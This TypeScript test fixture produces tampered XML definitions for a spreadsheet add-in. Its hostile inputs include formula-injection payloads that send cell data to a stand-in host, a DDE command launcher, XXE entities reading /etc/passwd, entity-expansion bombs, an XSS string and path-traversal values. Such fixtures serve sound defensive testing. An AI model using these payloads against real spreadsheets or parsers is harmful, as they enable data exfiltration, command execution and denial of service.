const outsideAddress = 'https://elsewhere.invalid';

/** Tampered versions of a valid definition, by name. */
export function createHostileParts(validXml: string): Readonly<Record<string, string>> {
  const replaceQuery = (formula: string) =>
    validXml.replace(/<question>.*?<\/question>/s, `<question>${escape(formula)}</question>`);
  const replaceAttribute = (name: string, value: string) =>
    validXml.replace(new RegExp(` ${name}="[^"]*"`), ` ${name}="${escape(value)}"`);
  const addElement = (element: string) => validXml.replace('</block>', `${element}</block>`);
  const addDocumentType = (type: string, text = '&a;') =>
    `<!DOCTYPE block ${type}>${replaceQuery('=').replace('=</question>', `=${text}</question>`)}`;
  return {
    'a query that calls a web service': replaceQuery(`=WEBSERVICE("${outsideAddress}/?"&A1)`),
    'a query that is a link': replaceQuery(`=HYPERLINK("${outsideAddress}","Open")`),
    'a query that starts a program': replaceQuery(`=cmd|' /C calc'!A0`),
    'a query with another function inside': replaceQuery(`=IDS.POSITIONS(WEBSERVICE("${outsideAddress}"),"last")`),
    'a query followed by another call': replaceQuery(`=IDS.POSITIONS(1,"last")&WEBSERVICE("${outsideAddress}")`),
    'a query with cells of another file': replaceQuery(
      `=IDS.POSITIONS('${outsideAddress}/[book.xlsx]Sheet1'!A1,"last")`,
    ),
    'a query with cells of a shared file': replaceQuery(
      `=IDS.POSITIONS('\\\\elsewhere.invalid\\share\\[book.xlsx]S'!A1,"last")`,
    ),
    'a query with a path to a parent folder': replaceQuery('=IDS.QUERY("../../../elsewhere?x=","top=1")'),
    'a query with an absolute address': replaceQuery(`=IDS.QUERY("${outsideAddress}/v2/odata/Positions","top=1")`),
    'a query with an address in its filter': replaceQuery(
      `=IDS.QUERY("Positions","filter=1 eq 1&$apply=${outsideAddress}")`,
    ),
    'a query for a resource elsewhere': replaceQuery(`=IDS.V1("//elsewhere.invalid/v1/Positions",1,"last")`),
    'a document that reads the schema': replaceQuery('=IDS.GRAPHQL("{ __schema { types { name } } }")'),
    'a document that changes data': replaceQuery('=IDS.GRAPHQL("mutation { deleteAll { id } }")'),
    'a query of 8,000 characters': replaceQuery(`=IDS.POSITIONS(1,"last","${'Quantity;'.repeat(900)}")`),
    'an empty query': replaceQuery('='),
    'a query nested 3,000 deep': replaceQuery(`=${'('.repeat(3_000)}`),
    'a service and a token of its own': addElement(
      `<service>${outsideAddress}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`,
    ),
    'a service among its attributes': validXml.replace(
      '<block ',
      `<block service="${outsideAddress}" base="${outsideAddress}" `,
    ),
    'a base address for its XML': validXml.replace('<block ', `<block xml:base="${outsideAddress}/" `),
    'a script in it': addElement('<script xmlns="http://www.w3.org/1999/xhtml">globalThis.hacked = true</script>'),
    'a stylesheet and an inclusion': `<?xml-stylesheet href="${outsideAddress}/x.xsl"?>${addElement(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${outsideAddress}"/>`)}`,
    'a schema to be fetched': validXml.replace(
      '<block ',
      `<block xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="x ${outsideAddress}/x.xsd" `,
    ),
    'markup in the name of a column': replaceAttribute('header', '<img src=x onerror=alert(1)>'),
    'a formula in the name of a column': replaceAttribute('header', `=HYPERLINK("${outsideAddress}","Quantity")`),
    'a formula in the name of a person': replaceAttribute('by', `=WEBSERVICE("${outsideAddress}")`),
    'a formula as its hash': replaceAttribute('hash', '=1+1'),
    'a property name of every object': replaceAttribute('header', '__proto__'),
    'a column of an unknown kind': replaceAttribute('kind', 'script'),
    'a time without end': replaceAttribute('fetchedAt', '1e999'),
    'a time after the last valid one': replaceAttribute('fetchedAt', '9e15'),
    'rows below zero': replaceAttribute('rows', '-5'),
    'an invalid process date': replaceAttribute('asOf', '2026-02-31'),
    'an id that is a path': replaceAttribute('id', '../../x'),
    'a lock that never ends': addElement('<writing since="99999999999999" session="other" by="=1+1"/>'),
    'a note outside the sheet': addElement('<note sheet="=1+1" row="1048576" column="0" rows="1" columns="1"/>'),
    'a note on the whole sheet': addElement('<note sheet="Sheet1" row="0" column="0" rows="1048575" columns="16000"/>'),
    'a key without its column': addElement('<key>Other</key>'),
    'a version from the future': replaceAttribute('version', '99'),
    'a negative version': replaceAttribute('version', '-1'),
    'half of it': validXml.slice(0, validXml.length / 2),
    'a megabyte of it': addElement(`<!--${'x'.repeat(1_000_000)}-->`),
    '3,000 columns': addElement(
      Array.from({ length: 3_000 }, (_, index) => `<column name="c${index}" kind="text" header="c${index}"/>`).join(''),
    ),
    'elements nested 10,000 deep': addElement(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`),
    'an entity': addDocumentType('[<!ENTITY a "IDS.POSITIONS(1)">]'),
    'entities that multiply': addDocumentType(
      `[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}"><!ENTITY d "${'&c;'.repeat(10)}">]`,
      '&d;',
    ),
    'an entity from elsewhere': addDocumentType(`[<!ENTITY a SYSTEM "${outsideAddress}/a">]`),
    'a type from elsewhere': addDocumentType(`SYSTEM "${outsideAddress}/block.dtd"`, ''),
    'a file of this computer': addDocumentType('[<!ENTITY a SYSTEM "file:///etc/passwd">]'),
  };
}

function escape(text: string): string {
  return text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);
}
